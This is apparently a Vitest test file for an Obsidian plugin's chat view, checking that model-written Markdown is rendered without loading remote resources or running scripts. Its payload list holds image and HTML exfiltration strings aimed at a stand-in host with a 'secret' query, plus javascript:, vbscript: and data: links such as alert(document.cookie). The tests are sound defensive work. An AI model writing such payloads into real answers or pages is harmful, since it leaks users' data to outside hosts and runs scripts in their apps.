// @vitest-environment happy-dom
// Model text must not load anything by being shown: whatever mix of Markdown images, reference
// images, raw HTML (img, iframe, picture, video), autolinks and code the model writes, the rendered
// answer holds no element that fetches a remote URL, while code keeps its text and links stay links.
import '../obsidian/dom';
import fc from 'fast-check';
import { App, Component } from 'obsidian-test-mocks/obsidian';
import { describe, expect, it } from 'vitest';
import { neutralizeMarkdown, renderUntrusted } from '../../src/views/chat/untrusted-markdown';

const ctx = { app: App.createConfigured__({ files: {} }) as never, component: new Component() as never, sourcePath: 'Note.md' };
const URL_ = 'https://evil.example/x.png?d=secret';

const PIECES = [
  `![leak](${URL_})`,
  `![leak][r]\n\n[r]: ${URL_}`,
  `<img src="${URL_}">`,
  `<IMG SRC=${URL_}>`,
  `<iframe src="${URL_}"></iframe>`,
  `<picture><source srcset="${URL_}"></picture>`,
  `<video poster="${URL_}"></video>`,
  `<a href="${URL_}"><img src="${URL_}"></a>`,
  `![[${URL_}]]`,
  `[a link](${URL_})`,
  `<${URL_}>`,
  '`![code](http://x/y.png)`',
  '```\n<img src="http://x/y.png">\n```',
  '[[Projects/Solar]]',
  'plain **bold** text',
  '> quote with ![q](http://q.example/q.png)',
  '- item <img src=//cdn.example/a.png>',
  '\\![escaped](http://e.example/e.png)',
];

function fetching(el: HTMLElement): string[] {
  const out: string[] = [];
  el.querySelectorAll('img, iframe, frame, object, embed, video, audio, source, picture, link, [srcset], [poster], [background]').forEach((n) => out.push(n.outerHTML));
  return out;
}

describe('untrusted Markdown in the chat', () => {
  it('never renders an element that loads a URL, whatever the pieces and their order', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 6 }), fc.constantFrom('\n\n', '\n', ' '), async (pieces, sep) => {
        const el = createDiv();
        await renderUntrusted(ctx, pieces.join(sep), el);
        expect(fetching(el)).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  it('keeps code as written, internal links as links, and external links behind a click with their address shown', async () => {
    const el = createDiv();
    await renderUntrusted(ctx, 'See [[Projects/Solar]] and [site](https://example.com/a).\n\n`![code](http://x/y.png)`\n\n```\n<img src="http://x/y.png">\n```', el);
    expect(el.querySelector('a.internal-link')?.getAttribute('data-href')).toBe('Projects/Solar');
    const ext = el.querySelector('a.external-link');
    expect(ext?.getAttribute('title')).toBe('https://example.com/a');
    expect(ext?.getAttribute('rel')).toContain('noopener');
    expect(el.querySelector('p code')?.textContent).toBe('![code](http://x/y.png)');
    expect(el.querySelector('pre code')?.textContent).toBe('<img src="http://x/y.png">\n');
  });

  it('leaves no link that runs a script: javascript: links lose their href, a [[javascript:…]] wikilink too', async () => {
    const hostile = ['[a](javascript:alert(1))', '<a href="javascript:alert(1)">b</a>', '[[javascript:alert(document.cookie)]]', '[[ JaVaScRiPt:alert(1)|c]]', '[d](data:text/html,<script>alert(1)</script>)', '[[vbscript:x]]'];
    for (const text of hostile) {
      const el = createDiv();
      await renderUntrusted(ctx, text, el);
      const hrefs = [...el.querySelectorAll('a')].map((a) => a.getAttribute('href'));
      expect(hrefs.filter((h) => h !== null && /^\s*(javascript|vbscript|data):/i.test(h))).toEqual([]);
    }
  });

  it('shows an image as its syntax in words, so the user sees what was not loaded', async () => {
    const el = createDiv();
    await renderUntrusted(ctx, `![leak](${URL_})`, el);
    expect(el.textContent).toContain('!');
    expect(el.querySelector('a')?.getAttribute('href')).toBe(URL_);
  });

  it('leaves text without images or HTML unchanged', () => {
    fc.assert(
      fc.property(fc.string().filter((s) => !s.includes('!') && !s.includes('<') && !s.includes('\\')), (s) => {
        expect(neutralizeMarkdown(s)).toBe(s);
      }),
    );
  });
});
